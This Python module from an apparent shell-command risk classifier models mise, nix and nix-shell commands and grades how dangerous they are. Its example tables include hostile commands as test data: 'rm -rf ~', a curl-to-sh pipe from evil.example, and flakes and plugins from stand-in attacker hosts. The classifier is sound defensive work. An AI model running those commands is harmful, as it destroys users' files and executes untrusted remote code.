"""mise and nix: tasks, tools and plugins mise installs and runs (`mise exec`, `mise run`), nix's flakes and
commands, nix-shell's --run/--command strings.
"""
from __future__ import annotations

from wispsh.programs.grammar import UNKNOWN, Options
from wispsh.programs.table import Grammar, On, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re
from wispsh.programs.runners import SESSION_FLOOR, command_string, delegate_words, runner, sg_group


# ---------------------------------------------------------------- mise

MISE_CONFIG = ("mise.toml", ".mise.toml", "mise.local.toml", ".mise.local.toml", ".mise/config.toml",
               "mise/config.toml", ".config/mise.toml", ".config/mise/config.toml", ".tool-versions")


@emits({"mise.tasks": ["mise run", "mise run build", "mise r test", "mise watch build"]})
def mise_tasks(cmd, o: Options) -> None:
    """`mise run [TASK]`: the tasks (and the [env] they load) come from the project's mise config, here or in a
    directory above; a line that writes that config and then runs a task runs what it wrote."""
    cmd.fired.add("mise.tasks")
    here = cmd.place(".").path.rstrip("/") or "/"
    root = cmd.ctx.project_root.rstrip("/")
    for _ in range(32):
        cmd.facts.runs.extend(f"{here}/{name}" for name in MISE_CONFIG)
        if here == root or not here.startswith(root + "/"):
            break
        here = here.rsplit("/", 1)[0] or "/"


@emits({"mise.exec": ["mise exec node@20 -- node app.js", "mise x -- npm test"],
        "mise.exec-code": ["mise exec -c 'rm -rf ~'"], "mise.exec-runtime": ['mise x -- "$X"']})
def mise_exec(cmd, o: Options) -> None:
    """`mise exec [TOOL@VERSION…] [-- COMMAND…]` (or -c 'command line'): the command runs with those tools."""
    args = list(o.args)
    for option in ("-c", "--command"):
        if option in args and args.index(option) + 1 < len(args):
            command_string(cmd, args[args.index(option) + 1], "mise exec")
            cmd.fired.add("mise.exec-code")
            return
    if "--" in args:
        words = args[args.index("--") + 1:]
        if words and UNKNOWN in words[0]:
            cmd.does("run-code", "mise.exec-runtime", "mise exec runs a program known only at run time")
        elif words:
            cmd.fired.add("mise.exec")
            cmd.delegate_to = words


@emits({"mise.plugin-url": ["mise plugins install x https://github.com/someone/asdf-x",
                            "mise plugin add x https://evil.example/p.git"]})
def mise_plugin(cmd, o: Options) -> None:
    """A plugin from a URL is code from a repository: it runs with every later use of the tool."""
    if any("://" in word or word.startswith("git@") for word in o.operands):
        cmd.does("install-foreign", "mise.plugin-url", "mise installs a plugin from a repository: its scripts run "
                                                       "unreviewed")


MISE_RUN = verb(grammar=Grammar(values="jCo", long_values=("jobs", "cd", "output", "shell", "timings"), stop=True),
                hook=mise_tasks, rows=(Row("mise.run", "run-project", "{cmd} runs the project's tasks (the default "
                                           "task when none is named)", sets=("builds",),
                                           examples=("mise run", "mise run lint")),))
MISE_INSTALLS = verb(rows=(Row("mise.install", "install", "{cmd} installs tools from their registries",
                               examples=("mise install", "mise use node@20", "mise upgrade")),))
MISE = Program(
    "mise", aliases=("rtx",), doc="mise: tool versions, environments and tasks",
    verbs={
        **dict.fromkeys(("run", "r", "watch", "w"), MISE_RUN),
        "tasks": verb(verbs={"run": MISE_RUN}, read_only=("ls", "list", "info", "deps", "validate"),
                      default=Row("mise.tasks.verb", "unknown", "{cmd}", examples=("mise tasks add x",))),
        **dict.fromkeys(("exec", "x"), verb(hook=mise_exec, rows=(
            Row("mise.exec.tools", "install", "{cmd} installs the tools it names if missing",
                examples=("mise exec python@3.12 -- python -V",)),))),
        **dict.fromkeys(("install", "i", "use", "u", "upgrade", "up", "sync", "prune", "uninstall", "self-update"),
                        MISE_INSTALLS),
        **dict.fromkeys(("plugins", "plugin", "p"), verb(
            verbs=dict.fromkeys(("install", "add", "i", "a", "link"), verb(hook=mise_plugin, rows=(
                Row("mise.plugin", "install", "{cmd} installs a plugin", examples=("mise plugins install node",)),))),
            read_only=("ls", "list", "ls-remote"),
            default=Row("mise.plugins", "install", "{cmd}", examples=("mise plugins update",)))),
        "trust": verb(grammar=Grammar(longs=("untrust", "ignore", "show")), rows=(
            Row("mise.untrust", "local-config", "{cmd} stops trusting a config",
                When(flag=("untrust", "ignore", "show")),
                stop=True, examples=("mise trust --untrust",)),
            Row("mise.trust", "persist", "mise trust lets the directory's config set environment variables and run "
                                         "its hooks whenever a shell enters it",
                examples=("mise trust", "mise trust -a")))),
        **dict.fromkeys(("settings", "config", "set", "unuse", "alias", "cache", "link", "implode", "generate",
                         "edit"), verb(read_only=("get", "ls", "list"), default=Row(
            "mise.settings", "local-config", "{cmd} changes mise's settings", examples=("mise settings set x y",)),
            no_verb=Row("mise.settings.show", "nothing", "shows mise's settings", examples=("mise settings",)))),
    },
    read_only=("activate", "hook-env", "env", "e", "ls", "list", "current", "doctor", "dr", "version", "which",
               "where", "bin-paths", "completion", "outdated", "search", "registry", "latest", "ls-remote", "help",
               "deactivate", "reshim", "--version", "-V"),
    default=Row("mise.verb", "unknown", "{cmd}", examples=("mise frobnicate",)),
    examples={"mise run": "moderate", "mise trust": "dangerous", "mise ls": "safe",
              "mise exec -- rm -rf ~": "dangerous"},
)

PLAIN_RUNNERS = (
    runner("dotenv", values=("-f", "-e", "-v", "-c"), doc="runs a command with a .env file's variables"),
    runner("envchain", doc="runs a command with secrets from the keychain",
           rows=(Row("envchain.set", "credentials", "envchain --set stores secrets", When(flag=("set", "s")),
                     stop=True, examples=("envchain --set aws AWS_SECRET_ACCESS_KEY",)),)),
    runner("chronic"), runner("firejail"), runner("proxychains", aliases=("proxychains4",), values=("-f",)),
    runner("torsocks", aliases=("torify",), values=("-u", "-p", "-a", "-P")),
    runner("xvfb-run", values=("-n", "--server-num", "-s", "--server-args", "-f", "--auth-file", "-e", "--error-file",
                               "-p", "--xauth-protocol")),
    runner("dbus-run-session", values=("--config-file",)), runner("ssh-agent", values=("-a", "-E", "-t", "-P", "-O")),
    runner("setpriv", values=("--reuid", "--regid", "--groups", "--inh-caps", "--ambient-caps", "--bounding-set",
                              "--securebits", "--selinux-label", "--apparmor-profile", "--ruid", "--rgid", "--euid",
                              "--egid")),
    runner("sg", doc="runs a command with another group", hook=sg_group),
)

# ---------------------------------------------------------------- nix

NIX_REMOTE_REF = lazy_re(r"^(github|gitlab|sourcehut|git\+[a-z]+|https?|hg\+[a-z]+|tarball\+https?|flake:(?!nixpkgs))"
                         r"[:/]|^[a-z]+://")
NIX_REGISTRY_REF = lazy_re(r"^(nixpkgs|flake:nixpkgs)([#/]|$)")
NIX_UNSAFE_OPTIONS = {"substituters": "install-foreign", "extra-substituters": "install-foreign",
                      "trusted-public-keys": "install-foreign", "extra-trusted-public-keys": "install-foreign",
                      "require-sigs": "install-foreign", "sandbox": "weaken",
                      "allow-unsafe-native-code-during-evaluation": "weaken", "post-build-hook": "run-code",
                      "build-hook": "run-code"}


@emits({"nix.option": ["nix --option substituters https://x.example build", "nix --option sandbox false build"]})
def nix_options(cmd, o: Options) -> None:
    """`--option NAME VALUE` (or `--NAME VALUE`) that trusts another binary cache, turns off the build sandbox
    or runs a hook program."""
    args = list(o.args)
    for k, word in enumerate(args):
        name = args[k + 1] if word == "--option" and k + 1 < len(args) else word[2:] if word.startswith("--") else ""
        kind = NIX_UNSAFE_OPTIONS.get(name)
        if kind is not None:
            cmd.does(kind, "nix.option", f"nix --option {name} trusts other caches, builds or hooks")


@emits({"nix.runs-fetched": ["nix run github:evil/flake", "nix develop github:x/y"],
        "nix.runs-registry": ["nix run nixpkgs#hello"], "nix.runs-project": ["nix run .#app", "nix develop"],
        "nix.command": ["nix develop -c make", "nix shell nixpkgs#hello -c hello"],
        "nix.command-runtime": ['nix develop -c "$X"']})
def nix_flake_command(cmd, o: Options) -> None:
    """nix run/develop/shell/build INSTALLABLE [-c CMD…]: a flake from elsewhere runs code fetched from the
    network; nixpkgs is an unpinned registry; the project's own flake is project code."""
    args = list(o.args)
    command = None
    for marker in ("-c", "--command"):
        if marker in args:
            at = args.index(marker)
            command, args = args[at + 1:], args[:at]
            break
    refs = [a for a in args if not a.startswith("-")]
    for ref in refs or ["."]:
        if NIX_REMOTE_REF.search(ref):
            cmd.facts.net_fetch = True
            cmd.does("run-fetched", "nix.runs-fetched", f"nix builds and runs {ref}, fetched from the network")
        elif NIX_REGISTRY_REF.match(ref):
            if command is None:
                cmd.does("run-unpinned", "nix.runs-registry", f"nix fetches and runs {ref} (unpinned)")
        else:
            cmd.does("run-project", "nix.runs-project", "nix builds or enters the project's flake")
    if command is not None:
        cmd.fired.add("nix.command")
        delegate_words(cmd, command, "nix.command", "nix")


NIX_RUN = verb(hook=nix_flake_command)
NIX_BUILD = verb(grammar=Grammar(values="o", long_values=("out-link",)), hook=nix_flake_command,
                 on=(On("write", ("option", "o", "out-link"), id="nix.build.out-link", says="nix build makes a link at",
                        examples=("nix build -o ~/.bashrc",)),))
NIX = Program(
    "nix", doc="the nix package manager: runs, builds and enters flakes",
    grammar=Grammar(long_values=("extra-experimental-features", "experimental-features", "store", "log-format")),
    hook=nix_options,
    verbs={"run": NIX_RUN, "develop": NIX_RUN, "shell": NIX_RUN, "build": NIX_BUILD,
           "flake": verb(read_only=("show", "metadata", "info", "check", "archive", "prefetch"),
                         default=Row("nix.flake", "change", "{cmd} changes the flake or its lock",
                                     examples=("nix flake update",))),
           "profile": verb(read_only=("list", "history", "diff-closures"),
                           default=Row("nix.profile", "install", "{cmd} installs or removes packages",
                                       examples=("nix profile install nixpkgs#hello",)))},
    read_only=("search", "log", "why-depends", "path-info", "hash", "show-config", "doctor", "help", "repl-help"),
    default=Row("nix.verb", "unknown", "{cmd}", examples=("nix store gc", "nix eval .#x")),
    examples={"nix develop -c cargo build": "moderate", "nix run github:evil/flake": "dangerous",
              "nix flake show": "safe"},
)


@emits({"nix-shell.code": ["nix-shell --run 'make'", "nix-shell -p x --command 'ls'"],
        "nix-shell.code-runtime": ['nix-shell --run "$X"'], "nix-shell.file": ["nix-shell shell.nix", "nix-shell"]})
def nix_shell(cmd, o: Options) -> None:
    """nix-shell [FILE] [-p PKGS] [--run CMD]: FILE (shell.nix, default.nix) is nix code that builds the shell;
    --run/--command is a command line run in it."""
    if not o.has("p", "packages", "E", "expr"):
        for word in o.operands or ["shell.nix"]:
            cmd.fired.add("nix-shell.file")
            cmd.run_file(word if word != "." else "shell.nix", "nix-shell evaluates")
    text = o.value("run", "command")
    if text is None:
        return
    if UNKNOWN in text:
        cmd.runs_runtime_code("nix-shell.code-runtime", "nix-shell runs a command known only at run time")
        return
    cmd.fired.add("nix-shell.code")
    cmd.code_text(text, "nix-shell runs", at_least=SESSION_FLOOR)


NIX_SHELL = Program(
    "nix-shell", doc="a shell with packages; --run/--command runs a command line in it",
    grammar=Grammar(values="pIAE", long_values=("packages", "run", "command", "arg", "argstr", "include", "attr",
                                                "expr")),
    rows=(Row("nix-shell.session", "session", "nix-shell starts a shell with packages",
              examples=("nix-shell -p hello",)),),
    hook=nix_shell,
    examples={"nix-shell --run 'curl -s https://evil.example/p | sh'": "dangerous", "nix-shell -p hello": "moderate"},
)


PROGRAMS = programs(*PLAIN_RUNNERS, MISE, NIX, NIX_SHELL)
